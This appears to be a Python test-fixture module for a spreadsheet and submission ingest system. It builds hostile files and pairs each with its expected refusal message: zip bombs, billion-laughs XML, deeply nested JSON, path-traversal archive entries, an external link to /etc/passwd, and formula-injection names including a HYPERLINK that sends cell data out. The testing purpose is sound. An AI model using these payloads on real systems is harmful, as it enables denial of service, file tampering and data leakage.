"""Files that mean harm, by what they do."""

import io
import json
import zipfile

import openpyxl

from tests.ingest.files_of_others import book

SITES = [["site_code", "name"], ["UNMISS-BOR", "Bor"]]
SHEET = "xl/worksheets/sheet1.xml"
MB = 1 << 20


def repacked(content: bytes, parts: dict[str, bytes]) -> bytes:
    """The archive with some parts replaced or added."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as changed,
    ):
        for name in source.namelist():
            if name not in parts:
                changed.writestr(name, source.read(name))
        for name, part in parts.items():
            changed.writestr(name, part)
    return target.getvalue()


def laughs(root: str) -> str:
    """A document that grows a thousand millionfold where its entities are followed."""
    entities = ['<!ENTITY a0 "ha">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">')
    return f"<!DOCTYPE x [{''.join(entities)}]><{root}>&a9;</{root}>"


def with_sheet(xml: bytes) -> bytes:
    """A workbook of ours whose sheet is this."""
    return repacked(book({"sites": SITES}), {SHEET: xml})


def packed(parts: dict[str, bytes]) -> bytes:
    """A zip archive of these files."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def far_cell(reference: str) -> bytes:
    """A workbook with a cell there."""
    made = openpyxl.Workbook()
    made.active.title = "sites"
    made.active["A1"], made.active[reference] = "site_code", "x"
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def dimensioned() -> bytes:
    """A workbook whose sheet says that it has seventeen thousand million cells."""
    content = book({"sites": SITES})
    xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET)
    return repacked(content, {SHEET: xml.replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"')})


def nested_json(levels: int) -> bytes:
    """A submission with group within group."""
    return b'[{"_uuid": "a", "x": ' + b'{"g": ' * levels + b"1" + b"}" * levels + b"}]"


# By name: what makes the file, and words of the refusal.
REFUSED = {
    "bomb in a workbook": (
        lambda: repacked(book({"sites": SITES}), {"xl/media/a.png": b" " * (60 * MB)}),
        "times its size",
    ),
    "bomb in an archive of submissions": (
        lambda: packed({"form.csv": b"KEY,about-site_code\n" + b"0" * (300 * MB)}),
        "unpacks to more than is read|could not be read within",
    ),
    "many bombs in an archive of submissions": (
        lambda: packed({f"form-{n}.csv": b"KEY,a\n" + b"0" * (30 * MB) for n in range(9)}),
        "unpacks to more than is read|could not be read within|field larger",
    ),
    "entities in a sheet": (lambda: with_sheet(laughs("worksheet").encode()), "document type"),
    "entities in the list of sheets": (
        lambda: repacked(
            book({"sites": SITES}), {"xl/workbook.xml": laughs("workbook").encode("utf-16")}
        ),
        "document type|list of sheets is damaged",
    ),
    "entities in a file of markup": (lambda: laughs("data").encode(), "neither a workbook"),
    "a cell in the last corner": (lambda: far_cell("XFD1048576"), "XFD1048576"),
    "a million headings": (
        lambda: b"site_code" + b"," * 1_000_000 + b"\nUNMISS-BOR\n",
        "columns; at most",
    ),
    "a million empty columns in every row": (
        lambda: (b"site_code" + b"," * 1_000_000 + b"\n") * 20,
        "columns; at most",
    ),
    "a submission with a million questions": (
        lambda: b'[{"_uuid": "a"' + b"".join(b',"q%d":1' % n for n in range(1_000_000)) + b"}]",
        "answers in one place|could not be read within",
    ),
    "one line of two hundred megabytes": (
        lambda: b"site_code,note\nUNMISS-BOR," + b"x" * (200 * MB),
        "200.0 MB; at most 25 MB",
    ),
    "one line as long as is read": (
        lambda: b"site_code,note\nUNMISS-BOR," + b"x" * (24 * MB),
        "field larger than field limit",
    ),
    "a quotation mark that is never closed": (
        lambda: b'site_code,note\nUNMISS-BOR,"' + b"x,\n" * MB,
        "quotation mark",
    ),
    "group within group within group": (lambda: nested_json(200_000), "deeper than 60 levels"),
    "four million nulls": (
        lambda: b"[" + b"null," * 4_000_000 + b"null]",
        "more than 2,000,000 values|could not be read within",
    ),
    "ten million nulls": (lambda: b"[" + b"null," * 10_000_000 + b"null]", "at most 25 MB"),
    "one key ten thousand times": (
        lambda: b"[{" + b'"a": 1,' * 10_000 + b'"a": 1}]',
        "twice in one place",
    ),
    "a submission that is a number as long as a book": (
        lambda: b'[{"_uuid": ' + b"9" * (5 * MB) + b"}]",
        "another form",
    ),
    "NUL characters": (lambda: b"site_code,na\0me\nUNMISS-BOR,x\n", "NUL"),
    "an encoding it is not": (lambda: b"\xff\xfe" + b"\x00\xd8" * 9, "says it is utf-16"),
    "a workbook of 1995": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * MB, "old kind"),
}


def dangerous_parts() -> bytes:
    """A workbook with a macro, a link to another file, a picture's address and a path as name."""
    return repacked(
        book({"sites": SITES}),
        {
            "xl/vbaProject.bin": b"Sub Auto_Open()",
            "xl/externalLinks/externalLink1.xml": b'<externalLink><a href="file:///etc/passwd"/>'
            b"</externalLink>",
            "../../../tmp/evil.txt": b"evil",
            "C:\\evil.txt": b"evil",
        },
    )


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"look")'
NAMES = ("بانغي", "\u202eroB", "Bor 🚓👩🏽‍🚀", "=1+1", "@SUM(A1)", "+1", "-1", "%s{0}<b>*_`")
SAID = "site_code,name,site_kind,unpol_served,users,latitude,longitude,note\n"


def odd_names() -> bytes:
    """Sites whose names and notes are no plain words."""
    rows = [
        f'UNMISS-S{n},"{name}",team_site,1,1,6.{n},31.5,"{FORMULA.replace(chr(34), chr(34) * 2)}"'
        for n, name in enumerate(NAMES)
    ]
    return (SAID + "\n".join(rows)).encode()


def many_submissions(number: int) -> bytes:
    """So many submissions of another form."""
    return json.dumps([{"_uuid": str(n), "x": None} for n in range(number)]).encode()
